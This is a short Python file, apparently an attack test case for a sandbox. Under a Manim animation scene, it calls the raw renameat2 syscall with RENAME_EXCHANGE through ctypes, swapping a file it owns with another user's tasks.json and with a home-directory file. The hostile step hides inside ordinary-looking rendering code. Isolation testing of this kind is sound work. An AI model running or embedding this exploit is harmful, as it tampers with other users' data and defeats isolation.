# ATTACK: file-write
# SUCCESS: renameat2(RENAME_EXCHANGE) swaps another user's file with ours
# ORACLE: generic, as for the other corpus
from manim import *

class S(Scene):
    def construct(self):
        import ctypes
        open("mine", "w").write("x")
        l = ctypes.CDLL(None, use_errno=True)
        l.syscall(316, -100, b"mine", -100, b"@OTHER@/tasks.json", 2)
        l.syscall(316, -100, b"mine", -100, b"@HOME@/docs/m.json", 2)
        self.add(Dot()); self.wait(0.1)
